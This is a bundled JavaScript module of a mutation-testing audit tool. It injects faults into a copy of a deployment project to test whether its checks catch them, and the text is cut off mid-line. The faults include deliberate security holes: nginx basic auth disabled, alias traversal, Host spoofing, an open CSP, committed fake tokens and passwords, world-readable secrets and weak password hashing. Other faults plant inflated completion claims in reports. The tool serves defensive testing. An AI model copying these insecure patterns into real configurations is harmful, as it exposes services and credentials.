import { modules as shared } from "./shared.index.js";

export const id = 7178;

export const ids = [ 7178 ];

export const modules = {
 ...shared,
 17178: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
  __webpack_require__.r(__webpack_exports__);
  __webpack_require__.d(__webpack_exports__, {
   default: () => audit_mutate
  });
  var ground = __webpack_require__(38140);
  var load_suite = __webpack_require__(84951);
  var external_node_path_ = __webpack_require__(76760);
  var picomatch = __webpack_require__(14006);
  var errors = __webpack_require__(74132);
  var limits = __webpack_require__(44831);
  var model_path = __webpack_require__(80916);
  var inside = __webpack_require__(14858);
  function judgeMutation({id, says}, applied, {before, after}) {
   const good = new Set(before.filter(isGood).map(run => run.id));
   const noticedBy = after.filter(run => good.has(run.id) && !isGood(run)).map(run => run.id);
   return {
    id,
    says,
    outcome: !applied ? "inapplicable" : noticedBy.length > 0 ? "noticed" : "missed",
    noticedBy: applied ? noticedBy : []
   };
  }
  function toothless(checks, results) {
   const sharp = new Set(results.flatMap(({noticedBy}) => noticedBy));
   return checks.filter(id => !sharp.has(id));
  }
  function isGood({observations}) {
   return observations.length > 0 && observations.every(({outcome}) => outcome === "pass");
  }
  function openCopy({files, hostFiles}, root, variables) {
   const at = path => {
    if (isWithin({
     files,
     hostFiles
    }, root, path)) return (0, external_node_path_.join)(root, path);
    throw new errors.cs("input_invalid", `${(0, model_path.g$)(path)} is reached through a link, so a fault could change more than the copy`, {
     path
    }, {
     hint: "Name the file itself in `vars` of duri.yml."
    });
   };
   const memory = remembering({
    files,
    hostFiles
   }, at);
   return {
    read: path => {
     if (!isWithin({
      files,
      hostFiles
     }, root, path) || hostFiles.look(at(path))?.kind !== "file") return;
     const content = files.read(at(path), limits.b.evidenceFileBytes);
     return content === void 0 ? void 0 : Buffer.from(content).toString("utf8");
    },
    write: (path, text) => {
     memory.remember(path, false);
     const mode = hostFiles.look(at(path))?.mode;
     files.write(at(path), text);
     if (mode !== void 0) hostFiles.setMode(at(path), mode);
    },
    remove: path => {
     memory.remember(path, true);
     files.remove(at(path));
    },
    setMode: (path, mode) => {
     memory.remember(path, false);
     hostFiles.setMode(at(path), mode);
    },
    link: (path, target) => {
     memory.remember(path, true);
     files.remove(at(path));
     hostFiles.makeFolder((0, external_node_path_.dirname)(at(path)));
     hostFiles.link(at(path), target);
    },
    glob: patterns => {
     const matches = picomatch([ ...patterns ], {
      dot: true
     });
     const entries = hostFiles.list(root, {
      maxEntries: 2e5,
      skip: [ ".git", "node_modules" ]
     });
     return entries.flatMap(({path, kind}) => kind === "file" && matches(path) ? [ path ] : []);
    },
    variable: name => variables.values.get(name),
    restore: memory.restore,
    changed: memory.changed
   };
  }
  function isWithin({files, hostFiles}, root, path) {
   const whole = (0, external_node_path_.join)(root, path);
   const folder = files.resolve((0, external_node_path_.dirname)(whole));
   return (folder === void 0 || (0, inside.FK)(folder, files.resolve(root) ?? root)) && hostFiles.look(whole)?.kind !== "link";
  }
  function remembering({files, hostFiles}, at) {
   const undo = [];
   const paths = new Set;
   const seen = {
    names: false
   };
   return {
    remember: (path, names) => {
     const whole = at(path);
     const facts = hostFiles.look(whole);
     const content = facts?.kind === "file" ? files.read(whole, limits.b.evidenceFileBytes) : void 0;
     paths.add(external_node_path_.posix.normalize(path));
     seen.names ||= names || facts === void 0;
     undo.push(() => {
      files.remove(whole);
      if (content === void 0) return;
      files.write(whole, content);
      hostFiles.setMode(whole, facts?.mode ?? 420);
     });
    },
    restore: () => {
     paths.clear();
     seen.names = false;
     for (const step of undo.splice(0).reverse()) step();
    },
    changed: () => ({
     paths: new Set(paths),
     names: seen.names
    })
   };
  }
  function pathOf(copy, variable) {
   const value = copy.variable(variable);
   return typeof value === "string" ? value : void 0;
  }
  function filesOf(copy, variable) {
   const value = copy.variable(variable);
   return typeof value === "object" ? copy.glob(value) : [];
  }
  function edit(copy, path, change) {
   const text = path === void 0 ? void 0 : copy.read(path);
   const changed = text === void 0 ? void 0 : change(text);
   if (path === void 0 || changed === void 0 || changed === text) return false;
   copy.write(path, changed);
   return true;
  }
  function inFile(variable, {id, says, change}) {
   return {
    id,
    says,
    apply: copy => edit(copy, pathOf(copy, variable), change)
   };
  }
  function faultsIn(family, variable, faults) {
   return faults.map(([id, says, change]) => inFile(variable, {
    id: `${family}/${id}`,
    says,
    change
   }));
  }
  function removes(id, says, find) {
   return {
    id,
    says,
    apply: copy => {
     const path = find(copy);
     if (path === void 0 || copy.read(path) === void 0) return false;
     copy.remove(path);
     return true;
    }
   };
  }
  function adds(id, says, path, text) {
   return {
    id,
    says,
    apply: copy => {
     if (copy.read(path) !== void 0) return false;
     copy.write(path, text);
     return true;
    }
   };
  }
  const replace = (pattern, by) => text => text.replace(pattern, by);
  function withBody(name, body) {
   return text => {
    const match = new RegExp(`^${name}\\(\\) \\{\\n[\\s\\S]*?^\\}$`, "m").exec(text);
    return match === null ? void 0 : text.slice(0, match.index) + `${name}() {\n  ${body}\n}` + text.slice(match.index + match[0].length);
   };
  }
  function atStartOf(name, line) {
   return replace(new RegExp(`^(${name}\\(\\) \\{\\n)`, "m"), `$1  ${line.replaceAll("$", "$$$$")}\n`);
  }
  const fault = (name, says, change) => inFile("notifier_file", {
   id: `code/${name}`,
   says,
   change
  });
  const inTests = (name, says, change) => ({
   id: `code/${name}`,
   says,
   apply: copy => copy.glob([ "tests/test_task_*.py" ]).some(path => edit(copy, path, change))
  });
  const codeMutations = [ fault("class-renamed", "renamed the notifier", replace(/^class DingTalkNotifier\b/m, "class DingtalkNotifier")), fault("class-commented", "left the notifier in a comment only", text => text.replace(/^class DingTalkNotifier\b/m, "# class DingTalkNotifier:\nclass Notifier")), fault("parameter-removed", "took a parameter from an alert", replace(/(def send_risk_alert\(self, metric: str), value: float/, "$1")), fault("parameter-order", "changed the order of parameters", replace(/(def send_kill_switch_alert\(self, )action: str, reason: str/, "$1reason: str, action: str")), fault("function-removed", "renamed a function that others call", replace(/def send_kill_switch_alert\b/, "def send_killswitch_alert")), fault("function-stub", "left nothing of a function but its head", replace(/(def send_risk_alert\([^)]*\)[^:\n]*:)\n(?: {8}[^\n]*\n|\n(?= {8}))+/, "$1\n        return None\n\n")), inTests("test-removed", "removed a test", replace(/^ +(?:async )?def test_\w+\([^)]*\)[^:]*:\n(?:(?: {8}[^\n]*)?\n)+/m, "")), inTests("test-renamed", "renamed a test so that it no longer runs", replace(/def test_/, "def check_")), inTests("test-skipped", "skipped a test", replace(/^( +)def test_/m, '$1@unittest.skip("flaky")\n$1def test_')), inTests("test-emptied", "took what a test asserts out", replace(/^( +def test_\w+\([^)]*\)[^:]*:\n)(?:(?: {8}[^\n]*)?\n)+/m, "$1        pass\n\n")) ];
  const documentsOf = copy => filesOf(copy, "documents").filter(path => path !== pathOf(copy, "completion_report"));
  const firstOf = files => (id, says, change) => ({
   id: `docs/${id}`,
   says,
   apply: copy => files(copy).some(path => edit(copy, path, change))
  });
  const inRunbook = firstOf(copy => filesOf(copy, "runbooks"));
  const inDocument = firstOf(documentsOf);
  const section = (name, replace) => text => text.replace(new RegExp(`^(#{2,4} [^\\n]*${name}[^\\n]*\\n)[\\s\\S]*?(?=^#{1,4} |$(?![\\s\\S]))`, "im"), (_, heading) => replace(heading));
  const documentMutations = [ ...faultsIn("docs", "completion_report", [ [ "wrong-number", "wrote a wrong number into the report", text => text.replace(/(<!-- fact:[a-z._]+ -->)(\d+)(?=<)/, (_, mark, number) => `${mark}${Number(number) + 1}`) ], [ "more-checks", "claimed more checks than there are", text => text.replace(/(<!-- fact:checks\.selected -->)[^<]*/, "$155") ], [ "tick", "ticked something off that nobody has checked", text => `${text}\n- ✅ Security reviewed\n` ], [ "ratio", "claimed a result that no run has", text => `${text}\nGate 1: 54/54 checks passed.\n` ], [ "percent", "claimed 100 %", text => text.replace(/^(# [^\n]*)$/m, "$1 (100% complete)") ], [ "stars", "rated its own work", text => `${text}\nConfidence: ⭐⭐⭐⭐⭐\n` ], [ "complete", "called it complete in a table", text => `${text}\n| Part | State |\n|---|---|\n| Tests | complete |\n` ], [ "lines", "claimed a number of lines", text => `${text}\nThe change has 3,896 lines.\n` ], [ "fact-unmarked", "took the mark off a number", text => text.replace(/<!-- fact:checks\.selected -->([^<]*)<!-- \/fact -->/, "$1") ], [ "fact-unknown", "named a fact that there is none of", text => text.replace("fact:checks.selected", "fact:checks.passed") ], [ "fact-open", "left a mark open", text => text.replace("\x3c!-- /fact --\x3e", "") ] ]), inDocument("todo", "left a TODO in a document", text => `${text}\nTODO: describe the rest.\n`), inDocument("to-be-created", "called a document to be created", text => `${text}\nThe migration guide is to be created.\n`), inDocument("not-yet-in-chinese", "left 待创建 in a document", text => `${text}\n- MIGRATION.md (待创建)\n`), inDocument("cut-short", "cut a document down to its title", text => `${text.split("\n", 1)[0] ?? ""}\n`), removes("docs/removed", "removed a document that has to be there", copy => documentsOf(copy)[0]), inDocument("link-broken", "linked to a file that is not there", text => `${text}\nSee [the annex](annex-that-is-gone.md).\n`), inDocument("anchor-broken", "linked to a heading that is not there", text => `${text}\nSee [above](#a-heading-that-is-gone).\n`), inDocument("link-out", "linked to a file outside the tree", text => `${text}\nSee [the notes](../../notes.md).\n`), inDocument("image-missing", "showed an image that is not there", text => `${text}\n![Overview](overview-that-is-gone.png)\n`), inDocument("script-missing", "told to run a script that is not there", text => `${text}\n\`\`\`bash\nsudo bash deploy_everything.sh\n\`\`\`\n`), inDocument("program-misspelt", "misspelt a program in a command", text => `${text}\n\`\`\`bash\nsudo systemclt reload nginx\n\`\`\`\n`), inDocument("verb-unknown", "told to run a verb that DuRi does not have", text => `${text}\n\`\`\`bash\nduri audti\n\`\`\`\n`), inDocument("duri-flag-unknown", "gave DuRi a flag that it does not have", text => `${text}\n\`\`\`bash\nduri audit --skip-all\n\`\`\`\n`), inDocument("shell-broken", "left a command block that no shell can read", text => `${text}\n\`\`\`bash\nif [ -f x ]; then echo "\n\`\`\`\n`), {
   id: "docs/script-flag-unknown",
   says: "gave the deploy script a flag that it does not have",
   apply: copy => {
    const script = pathOf(copy, "deploy_script");
    return script !== void 0 && edit(copy, documentsOf(copy)[0], text => `${text}\n\`\`\`bash\nbash ${script} --skip-the-tests\n\`\`\`\n`);
   }
  }, inRunbook("section-removed", "took a section out of a runbook", section("contain", () => "")), inRunbook("section-emptied", "emptied a section of a runbook", section("recover", heading => `${heading}\n`)), inRunbook("section-stub", "left a stub in place of a section of a runbook", section("rotate", heading => `${heading}\nAsk around.\n\n`)), inRunbook("owner-emptied", "emptied the owner of a runbook", section("owner", heading => `${heading}\n-\n\n`)), inRunbook("owner-nobody", "left a runbook to nobody in particular", section("owner", heading => `${heading}\nTBD\n\n`)), inRunbook("time-removed", "took the target time out of a runbook", section("target time", () => "")), inRunbook("time-vague", "made the target time of a runbook vague", section("target time", heading => `${heading}\nAs soon as possible.\n\n`)), removes("docs/runbook-removed", "removed a runbook", copy => filesOf(copy, "runbooks")[0]) ];
  const PLAIN = /^([A-Z][A-Z0-9_]*)=([^\n]*)\n/m;
  const value = (key, to, from = "[^\\n]*") => text => text.replace(new RegExp(`^(${key}=)${from}$`, "m"), (_, before) => before + to);
  const environmentMutations = [ ...faultsIn("env", "env_example", [ [ "key-removed", "removed a variable", text => text.replace(/^[A-Z]+_[A-Z0-9_]*_TIMEOUT=[^\n]*\n/m, "") ], [ "first-key-removed", "removed the first variable", text => text.replace(PLAIN, "") ], [ "key-commented", "commented a variable out", text => text.replace(/^(?=[A-Z]+_[A-Z0-9_]*=[^\n]*$)/m, "# ") ], [ "key-added", "added a variable that nobody knows", text => `${text}LEGACY_MODE=on\n` ], [ "key-misspelt", "misspelt a variable", text => text.replace(/^([A-Z]+_)([A-Z])([A-Z])([A-Z0-9_]*=)/m, "$1$3$2$4") ], [ "key-in-small-letters", "wrote a variable in small letters", text => text.replace(/^[A-Z]+_[A-Z0-9_]+(?==)/m, key => key.toLowerCase()) ], [ "key-twice", "set a variable twice", text => `${text}${PLAIN.exec(text)?.[0] ?? ""}` ], [ "secret", "committed what looks like a real secret", value("[A-Z_]*_(?:SECRET|TOKEN|PASSWORD)", "SEC4f1d0c7a9be25d36418", "CHANGE_ME") ], [ "webhook", "committed a webhook with its token", value("[A-Z_]*WEBHOOK[A-Z_]*", "https://oapi.dingtalk.com/robot/send?access_token=4f1d0c7a9be25d36418", "CHANGE_ME") ], [ "default-password", "committed a password that everybody guesses", value("[A-Z_]*_PASSWORD", "changeme") ], [ "url-password", "committed a password in a URL", value("[A-Z_]*_URL", "https://operator:hunter2@dashboard.example.com", "https?://[^\\n]*") ], [ "debug", "switched debugging on", value("DEBUG", "true") ], [ "dev", "made it a development environment", value("ENV", "dev") ], [ "integrity-warn", "let changed files run on", value("INTEGRITY_MODE", "warn") ], [ "integrity-off", "switched the integrity check off", value("INTEGRITY_MODE", "off") ], [ "port-too-high", "wrote a port that there is none of", value("[A-Z_]*_PORT", "85010", "\\d+") ], [ "port-zero", "wrote port 0", value("[A-Z_]*_PORT", "0", "\\d+") ], [ "port-other", "changed the port of the service, and not in nginx", text => text.replace(/^(DASHBOARD_PORT|APP_PORT|PORT)=(\d+)$/m, (_, key, port) => `${key}=${Number(port) + 1}`) ], [ "no-number", "wrote a word in place of a number", value("[A-Z_]*_(?:PORT|MAX_[A-Z_]+|DAYS)", "many", "\\d+") ], [ "no-switch", "wrote yes in place of true", value("[A-Z_]*_ENABLED", "yes", "(?:true|false)") ], [ "no-duration", "wrote a time that is none", value("[A-Z_]*_TIMEOUT", "soon") ], [ "share-too-large", "wrote a share in per cent", value("[A-Z_]*_(?:THRESHOLD|RATIO)", "30", "0\\.\\d+") ], [ "no-url", "wrote a URL without its scheme", value("[A-Z_]*_URL", "dashboard.example.com", "https?://[^\\n]*") ], [ "number-emptied", "emptied a number", value("[A-Z_]*_PORT", "", "\\d+") ], [ "byte-order-mark", "saved the file with a byte order mark", text => `\ufeff${text}` ], [ "crlf", "saved the file with CR LF line ends", text => text.replace(/\n/g, "\r\n") ], [ "space", "wrote a value with a space and without quotes", value("[A-Z_]*_(?:TIMEOUT|INTERVAL)", "5 seconds") ], [ "space-around", "wrote spaces around =", text => text.replace(/^([A-Z]+_[A-Z0-9_]*)=([^\n]+)$/m, "$1 = $2") ], [ "export", "wrote export before a variable", text => text.replace(/^(?=[A-Z]+_[A-Z0-9_]*=)/m, "export ") ], [ "open-quote", "left a quote open", text => text.replace(/^([A-Z]+_[A-Z0-9_]*=)([^"'\n]+)$/m, '$1"$2') ], [ "command", "wrote a command into a value", value("[A-Z]+_[A-Z_]*_DIR", '"$(pwd)/state"') ], [ "line-of-prose", "wrote a line that is neither comment nor variable", text => text.replace(PLAIN, line => `${line}see the wiki for the rest\n`) ] ]), {
   id: "env/schema-key-removed",
   says: "took a variable out of the schema alone",
   apply: copy => edit(copy, pathOf(copy, "env_schema"), text => {
    const schema = JSON.parse(text);
    const [key] = Object.keys(schema.properties ?? {}).slice(-1);
    if (key === void 0) return text;
    const properties = Object.fromEntries(Object.entries(schema.properties ?? {}).filter(([name]) => name !== key));
    return JSON.stringify({
     ...schema,
     properties,
     required: schema.required?.filter(name => name !== key)
    }, null, 2);
   })
  }, {
   id: "env/undeclared",
   says: "read a variable in a program that nobody declares",
   apply: copy => edit(copy, filesOf(copy, "env_readers").find(path => path.endsWith(".py")), text => `${text}\nimport os\n\nLEGACY = os.environ["LEGACY_ENDPOINT"]\n`)
  }, {
   id: "env/undeclared-in-script",
   says: "read a variable in the deploy script that nobody declares",
   apply: copy => edit(copy, pathOf(copy, "deploy_script"), text => `${text}echo "deployed to $DEPLOY_REGION_NAME"\n`)
  } ];
  const KEY_TEXT = `-----BEGIN EC PARAMETERS-----\nBggqhkjOPQMBBw==\n-----END EC PARAMETERS-----\n`;
  const files_link = (path, target) => copy => {
   if (copy.read(path) !== void 0) return false;
   copy.link(path, target);
   return true;
  };
  const first = (variable, fits, act) => copy => {
   const path = filesOf(copy, variable).find(one => fits.test(one));
   if (path === void 0) return false;
   act(copy, path);
   return true;
  };
  const fileMutations = [ removes("files/config-removed", "removed the nginx configuration", copy => pathOf(copy, "nginx_conf")), {
   id: "files/program-emptied",
   says: "emptied a program that is deployed",
   apply: first("deliverables", /\.py$/, (copy, path) => copy.write(path, ""))
  }, {
   id: "files/unit-emptied",
   says: "emptied the unit that runs the service",
   apply: first("deliverables", /\.service$/, (copy, path) => copy.write(path, ""))
  }, {
   id: "files/config-is-a-link",
   says: "put a link in place of a deployed file",
   apply: first("deliverables", /\.(?:conf|service)$/, (copy, path) => {
    const text = copy.read(path) ?? "";
    copy.write(`${path}.real`, text);
    copy.remove(path);
    copy.link(path, `${path.slice(path.lastIndexOf("/") + 1)}.real`);
   })
  }, ...faultsIn("files", "deploy_script", [ [ "script-crlf", "saved the deploy script with CR LF line ends", text => text.replace(/\n/g, "\r\n") ], [ "script-one-crlf", "left one CR LF line end in the deploy script", text => text.replace(/\n(?=[^\n]*\n[^\n]*\n[^\n]*$)/, "\r\n") ], [ "script-for-sh", "let the deploy script run in sh", text => text.replace(/^#![^\n]*/, "#!/bin/sh") ], [ "script-cut-short", "cut the line end off the deploy script", text => text.trimEnd() ], [ "env-for-all", "let the deploy script install the environment file for everyone to read", text => text.replace(/(\binstall\b[^\n]*-m +)0?600\b/g, "$1644").replace(/\bchmod +0?600\b/g, "chmod 644") ] ]), {
   id: "files/script-not-executable",
   says: "took the executable bit of the deploy script away",
   apply: copy => {
    const path = pathOf(copy, "deploy_script");
    if (path === void 0 || copy.read(path) === void 0) return false;
    copy.setMode(path, 420);
    return true;
   }
  }, adds("files/backup", "left a backup of a configuration in the tree", "site.conf.bak", "server { listen 80; }\n"), adds("files/editor-leftover", "left the swap file of an editor in the tree", ".site.conf.swp", "b0VIM\n"), adds("files/pem", "dropped a key into the tree", "certs/dashboard.pem", KEY_TEXT), adds("files/ssh-key", "dropped an SSH key into the tree", "id_ed25519", KEY_TEXT), adds("files/dot-env", "committed an environment file under its short name", ".env", "DEBUG=true\n"), adds("files/htpasswd", "committed the password file of nginx", "nginx/.htpasswd", "operator:$2y$10$abcdefghijklmnopqrstuv\n"), adds("files/deep", "hid a file deep in the tree", "a/b/c/d/e/f/g/h/i/j/k/l/m/x.txt", "x\n"), {
   id: "files/link-out",
   says: "added a link that leads out of the tree",
   apply: files_link("shared", "../../outside")
  }, {
   id: "files/link-absolute",
   says: "added a link to a file of the host",
   apply: files_link("hosts", "/etc/hosts")
  }, {
   id: "files/link-loop",
   says: "added a link to the folder that holds it",
   apply: files_link("loop", ".")
  }, {
   id: "files/link-dead",
   says: "added a link to nothing",
   apply: files_link("dead", "nowhere-at-all")
  }, ...faultsIn("files", "systemd_unit", [ [ "unit-as-root", "ran the service as root", text => text.replace(/^User=.*$/m, "User=root") ], [ "unit-other-settings", "ran the service with other settings", text => text.replace(/^(EnvironmentFile=.*?)(\S+)$/m, "$1$2.staging") ] ]), ...faultsIn("files", "nginx_conf", [ [ "other-port", "passed requests on to another port", text => text.replace(/^(\s*server\s+127\.0\.0\.1:)(\d+)/m, (_, before, port) => `${before}${Number(port) + 1}`) ] ]), ...faultsIn("files", "signer_file", [ [ "signer-sha1", "signed messages with SHA-1", text => text.replace(/\bsha256\b(?=\)|,|")/g, "sha1") ], [ "signer-hex", "sent the signature in hexadecimal digits", text => text.replace(/base64\.b64encode\((\w+)\)\.decode\(\)/, "$1.hex()") ], [ "signer-no-hmac", "hashed messages without the key", text => text.replace(/hmac\.new\([^,]+,\s*(.+?),\s*hashlib\.sha256\)/, "hashlib.sha256($1)") ] ]), {
   id: "files/signer-renamed",
   says: "renamed the function that signs messages",
   apply: copy => {
    const name = pathOf(copy, "signer_function");
    return name !== void 0 && edit(copy, pathOf(copy, "signer_file"), text => text.replace(new RegExp(`\\bdef ${name}\\b`), "def make_it"));
   }
  } ];
  const htpasswd_fault = (id, says, change) => inFile("deploy_script", {
   id: `htpasswd/${id}`,
   says,
   change
  });
  const options = change => text => text.replace(/^(?!\s*#)(.*(?<!-v )\bhtpasswd(?= +-)(?! +-v))( +-[^\n]*)$/gm, (_, before, args) => before + change(args));
  const afterwards = change => text => text.replace(/(\n[^#\n]*\bhtpasswd +-[^v][\s\S]*?\n\}\n)/, body => change(body));
  const htpasswdMutations = [ htpasswd_fault("default-algorithm", "hashed passwords with MD5", options(args => args.replace(/ -B\b/, "").replace(/ (-\w*)B/, " $1").replace(/ -C +\S+/, ""))), htpasswd_fault("sha1", "hashed passwords with SHA-1", options(args => args.replace(/ -B\b/, " -s").replace(/ (-\w*)B/, " $1s").replace(/ -C +\S+/, ""))), htpasswd_fault("plain", "kept passwords in plain text", options(args => args.replace(/ -B\b/, " -p").replace(/ (-\w*)B/, " $1p").replace(/ -C +\S+/, ""))), htpasswd_fault("default-cost", "left bcrypt at cost 5", options(args => args.replace(/ -C +\S+/, ""))), htpasswd_fault("low-cost", "hashed with cost 4", options(args => args.replace(/ -C +\S+/, " -C 4"))), htpasswd_fault("password-argument", "gave the password as an argument", options(args => args.replace(/ -i\b/, " -b").replace(/ (-\w*)i/, " $1b"))), htpasswd_fault("world-readable", "let everybody read the hashes", afterwards(rest => rest.replace(/\b0?640\b/g, "644"))), htpasswd_fault("private", "let only root read the hashes, so that no worker can", afterwards(rest => rest.replace(/\b0?640\b/g, "600"))), htpasswd_fault("wrong-group", "gave the hashes to another group", afterwards(rest => rest.replace(/root:["']?\$\{?\w+\}?/g, "root:nogroup").replace(/root:www-data/g, "root:nogroup"))), htpasswd_fault("not-made", "no longer made the file", options(args => ` -v${args}`)) ];
  const faultOf = variable => (name, says, change) => inFile(variable, {
   id: `monitoring/${name}`,
   says,
   change
  });
  const rules = faultOf("alert_rules");
  const routes = faultOf("alert_routes");
  const ruleTests = faultOf("alert_tests");
  const monitoringMutations = [ rules("rule-syntax", "broke an expression", replace(/^(\s+expr: )[^\n|>]/m, "$1((")), rules("rules-emptied", "took every rule out", () => "groups: []\n"), rules("rule-silent", "let a rule never fire", replace(/^(\s+for: )\d+\w+$/m, "$1999h")), rules("severity", "made a critical alert a warning", replace(/severity: critical/, "severity: warning")), rules("alert-added", "added an alert that nobody tested", text => text.replace(/^( +)- alert: /m, "$1- alert: NeverTested\n$1  expr: vector(0) > 1\n$1  labels: {severity: critical}\n$1- alert: ")), ruleTests("tests-emptied", "took every test of the rules out", replace(/^tests:[\s\S]*/m, "tests: []\n")), routes("critical-to-chat", "sent critical alerts to the chat", replace(/severity = "critical"/, 'severity = "page"')), routes("receiver-silent", "left a receiver without a channel", replace(/(- name: oncall-pager\n)(?: {4}[^\n]*\n)+/, "$1")), routes("matchers-deprecated", "wrote a route with matchers of old", replace(/matchers:\n\s+- severity = "critical"/, "match: {severity: critical}")), routes("receiver-unknown", "routed to a receiver that is not there", replace(/receiver: oncall-pager/, "receiver: oncall-pagr")) ];
  const nginx_fault = (id, says, change) => inFile("nginx_conf", {
   id: `nginx/${id}`,
   says,
   change
  });
  const nginx_replace = (pattern, by) => text => typeof by === "string" ? text.replace(pattern, () => by) : text.replace(pattern, (...groups) => by(...groups));
  const intoLocation = (lines, head = String.raw`(?![ \t]*(?:=|@|~))[^{\n]*`) => text => {
   const pattern = new RegExp(String.raw`(^[ \t]*location${head}\{)((?:[^{}]|\{[^{}]*\})*?\bproxy_pass\b)`, "m");
   return text.replace(pattern, (_, open, rest) => `${open}\n        ${lines}\n${rest}`);
  };
  const intoServer = lines => text => text.replace(/^([ \t]*)auth_basic[ \t]+"?[^o\s]/m, (match, indent) => `${indent}${lines}\n${match}`);
  const SERVER = "server {\n    listen 127.0.0.1:8089;\n    location / {\n        proxy_pass http://127.0.0.1:8501;\n    }\n}\n";
  const nginxMutations = [ nginx_fault("auth-off", "turned basic auth off in a proxied location", intoLocation("auth_basic off;")), nginx_fault("auth-removed", "removed auth_basic from the server", nginx_replace(/^[ \t]*auth_basic[ \t]+(?!off).*;.*$/m, "")), nginx_fault("auth-server-off", "turned basic auth off in the server", nginx_replace(/^([ \t]*)auth_basic[ \t]+(?!off).*;/m, (_, indent = "") => `${indent}auth_basic off;`)), nginx_fault("auth-by-variable", "made the realm a variable that visitors set", nginx_replace(/^([ \t]*)auth_basic[ \t]+(?!off).*;/m, (_, indent = "") => `${indent}auth_basic $arg_realm;`)), nginx_fault("user-file-removed", "removed auth_basic_user_file, so that nobody is asked", nginx_replace(/^[ \t]*auth_basic_user_file.*;.*$/m, "")), nginx_fault("user-file-missing", "named an htpasswd file that nobody makes", nginx_replace(/(auth_basic_user_file[ \t]+)[^;]+;/, (_, name = "") => `${name}/etc/nginx/.htpasswd_gone;`)), nginx_fault("satisfy-any", "let an address range in without password", intoServer("satisfy any; allow 10.0.0.0/8; deny all;")), nginx_fault("nested-open", "added a nested location without password", intoLocation("location /open { auth_basic off; proxy_pass http://127.0.0.1:8501; }", String.raw`[ \t]+/[ \t]*`)), nginx_fault("limit-except-open", "asked for no password for some methods", intoLocation("limit_except GET { auth_basic off; }")), nginx_fault("open-path-widened", "made the open path a beginning instead of an exact path", nginx_replace(/location\s+=\s+(\/\S+)/, (_, path = "") => `location ${path}`)), nginx_fault("second-server", "added a second server without password", text => `${text}\n${SERVER}`), nginx_fault("error-page-status", "turned 401 into 200 by an error page", intoServer("error_page 401 =200 /;")), nginx_fault("header-dropped", "removed a security header", nginx_replace(/^[ \t]*add_header[ \t]+X-Content-Type-Options.*;.*$/m, "")), nginx_fault("header-without-always", "took always from a security header", nginx_replace(/(add_header[ \t]+X-Frame-Options[ \t]+\S+)[ \t]+always;/, (_, header = "") => `${header};`)), nginx_fault("header-in-location", "added a header inside a location, which drops all the others there", intoLocation("add_header X-Extra 1 always;")), nginx_fault("header-in-if", "added a header inside an if", intoLocation("if ($request_method = POST) { add_header X-Extra 1 always; }")), nginx_fault("header-twice", "added a security header twice", intoServer("add_header X-Frame-Options SAMEORIGIN always;")), nginx_fault("header-senseless", "gave a security header a value that does nothing", nginx_replace(/(add_header[ \t]+Strict-Transport-Security[ \t]+)"[^"]*"/, (_, header = "") => `${header}"max-age=0"`)), nginx_fault("policy-open", "let scripts come from anywhere", nginx_replace(/(add_header[ \t]+Content-Security-Policy[ \t]+)"[^"]*"/, (_, header = "") => `${header}"default-src *"`)), nginx_fault("upgrade-dropped", "removed the Upgrade header from the websocket", nginx_replace(/^[ \t]*proxy_set_header[ \t]+Upgrade.*;.*$/m, "")), nginx_fault("connection-closed", "sent Connection: close to the websocket", nginx_replace(/(proxy_set_header[ \t]+Connection[ \t]+)\$\w+;/, (_, header = "") => `${header}close;`)), nginx_fault("map-broken", "made the map of Connection say close", nginx_replace(/(map[ \t]+\$http_upgrade[^}]*default[ \t]+)upgrade;/, (_, map = "") => `${map}close;`)), nginx_fault("http-1.0", "spoke HTTP/1.0 to the backend", nginx_replace(/(proxy_http_version[ \t]+)1\.1;/g, (_, name = "") => `${name}1.0;`)), nginx_fault("websocket-timeout", "closed quiet websockets after ten seconds", nginx_replace(/(proxy_read_timeout[ \t]+)(?:\d{3,}s?|\d+h);/, (_, name = "") => `${name}10s;`)), nginx_fault("upstream-elsewhere", "sent requests to another host", nginx_replace(/((?:server|proxy_pass)[ \t]+(?:http:\/\/)?)(?:127\.0\.0\.1|localhost)(:\d+)/, (_, before = "", port = "") => `${before}10.9.8.7${port}`)), nginx_fault("upstream-any-address", "sent requests to 0.0.0.0", nginx_replace(/((?:server|proxy_pass)[ \t]+(?:http:\/\/)?)(?:127\.0\.0\.1|localhost)(:\d+)/, (_, before = "", port = "") => `${before}0.0.0.0${port}`)), nginx_fault("upstream-variable", "let the visitor choose the backend", nginx_replace(/proxy_pass[ \t]+[^;]+;/, "proxy_pass http://$http_x_backend;")), nginx_fault("upstream-backup", "added a backup on another host", nginx_replace(/(upstream[^{]*\{)/, (_, open = "") => `${open}\n    server backup.example:8501 backup;`)), nginx_fault("server-tokens", "told the version of nginx", nginx_replace(/server_tokens[ \t]+off;/, "server_tokens on;")), nginx_fault("authorization-forwarded", "sent the password on to the application", nginx_replace(/^[ \t]*proxy_set_header[ \t]+Authorization.*;.*$/gm, "")), nginx_fault("set-header-in-location", "set a header for the backend inside a location, which drops all the others there", intoLocation("proxy_set_header X-Extra 1;", String.raw`[ \t]+/[ \t]*`)), nginx_fault("host-spoofing", "sent the Host of the visitor on", nginx_replace(/(proxy_set_header[ \t]+Host[ \t]+)[^;]+;/, (_, name = "") => `${name}$http_host;`)), nginx_fault("alias-traversal", "added a location with an alias that can be left", intoServer("location /files { alias /srv/dashboard/files/; }")), nginx_fault("http-splitting", "put a decoded path into a redirect", intoServer("location /old { return 301 https://dashboard.example$uri; }")), nginx_fault("files-open", "served a folder of files without password", intoServer("location /state/ { auth_basic off; alias /srv/dashboard/state/; }")), nginx_fault("identity-spoofing", "believed the user name that the visitor wrote", intoServer("proxy_set_header X-Remote-User $http_x_remote_user;")), nginx_fault("body-unlimited", "took requests of any size", nginx_replace(/client_max_body_size[ \t]+[^;]+;/, "client_max_body_size 0;")), nginx_fault("no-log", "wrote no access log", nginx_replace(/^([ \t]*)access_log[ \t]+\/[^;]+;/m, (_, indent = "") => `${indent}access_log off;`)), nginx_fault("errors-hidden", "answered errors of the backend with success", nginx_replace(/(error_page[ \t]+50[0-9 ]*)/, (_, codes = "") => `${codes}=200 `)), nginx_fault("inline-scripts", "let scripts stand in the page", nginx_replace(/script-src 'self'/, "script-src 'self' 'unsafe-inline'")), nginx_fault("autoindex", "listed folders", intoServer("autoindex on;")), nginx_fault("public-clear-text", "listened on every address without TLS", nginx_replace(/(listen[ \t]+)[^;]+;/g, (_, name = "") => `${name}8080;`)), nginx_fault("old-tls", "listened on every address with TLS 1.0", text => text.replace(/^([ \t]*)listen[ \t]+[^;]+;/m, (_, indent) 